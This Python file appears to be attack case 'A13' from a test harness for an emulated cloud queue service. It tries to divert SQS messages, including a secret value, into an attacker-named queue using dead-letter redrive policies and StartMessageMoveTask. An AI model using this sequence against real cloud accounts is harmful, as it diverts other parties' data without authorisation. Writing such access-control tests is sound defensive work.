"""A13: have the service move the messages of an own queue into a queue of somebody else.

Why what is moved is unlabelled: where it may be moved is not a matter of what it is.
"""

import json


def attack(hands):
    text = hands.plain()
    if failing(hands, "moved-jobs", "attackers-jobs"):
        failed(hands, "moved-jobs", text)
    # The emulated cloud moves nothing itself: where it is asked to move it to tells of the request.
    there = hands.arn("sqs", f"attackers-{text}")
    hands.call("sqs", "StartMessageMoveTask", SourceArn=hands.arn("sqs", "moved-jobs"), DestinationArn=there)
    fails = {"RedrivePolicy": redrive(hands, "attackers-jobs")}
    hands.call("sqs", "CreateQueue", QueueName=text, Attributes=fails)


def twin(hands):
    if failing(hands, "granted-jobs", "kept-jobs"):
        failed(hands, "granted-jobs", hands.secret())


def redrive(hands, queue):
    """The setting that hands a message on to a queue when it has been received once."""
    return json.dumps({"deadLetterTargetArn": hands.arn("sqs", queue), "maxReceiveCount": 1})


def failing(hands, own, queue):
    """Set it; whether it was taken."""
    fails = {"RedrivePolicy": redrive(hands, queue)}
    return hands.call("sqs", "SetQueueAttributes", QueueUrl=hands.queue(own), Attributes=fails).status == 200


def failed(hands, own, text):
    """Put a message there and let it fail."""
    url = hands.queue(own)
    hands.call("sqs", "SendMessage", QueueUrl=url, MessageBody=text)
    for _ in range(3):
        hands.call("sqs", "ReceiveMessage", QueueUrl=url, MaxNumberOfMessages=10, VisibilityTimeout=0)
